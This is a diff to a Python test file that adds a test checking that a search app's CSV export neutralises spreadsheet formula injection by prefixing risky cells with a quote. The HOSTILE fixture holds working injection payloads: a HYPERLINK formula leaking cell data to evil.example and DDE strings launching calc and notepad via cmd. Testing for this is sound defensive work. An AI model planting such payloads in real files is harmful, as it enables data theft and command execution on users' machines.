@@ -9,6 +9,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from cases.interchange.schema import validator
+from tests.search.conftest import case
 
 pytestmark = pytest.mark.usefixtures("corpus")
 
@@ -89,6 +90,30 @@ def test_csv_export_holds_exactly_the_filtered_results(client):
     rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
     assert [r["external_id"] for r in rows] == ["tweetathon"]
     assert rows[0]["url"] == "http://testserver/cases/tweetathon/"
+
+
+HOSTILE = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1,"Open the full report")',
+    "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "+cmd|' /C notepad'!A0 and the rest of the summary",
+    "platforms": ["-2+3+cmd|' /C calc'!A0", "Twitter"],
+}
+
+
+def test_csv_export_cells_never_start_a_formula(client, add_cases):
+    """A cell starting with = + - @ (or tab, CR) gets a leading quote and keeps the rest."""
+    add_cases(case("formula-case", country="FI", **HOSTILE))
+    response = client.get("/api/search/export.csv", {"country": "FI"})
+    (row,) = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
+    assert row["title"] == "'" + HOSTILE["title"]
+    assert row["organisation"] == "'" + HOSTILE["organisation"]
+    assert row["summary"] == "'" + HOSTILE["summary"]
+    assert row["platforms"] == "'" + "; ".join(HOSTILE["platforms"])
+    assert (row["external_id"], row["country"], row["published"]) == (
+        "formula-case",
+        "FI",
+        "2015-06-01",
+    )
 
 
 def test_jsonl_export_is_valid_interchange_in_search_order(client):
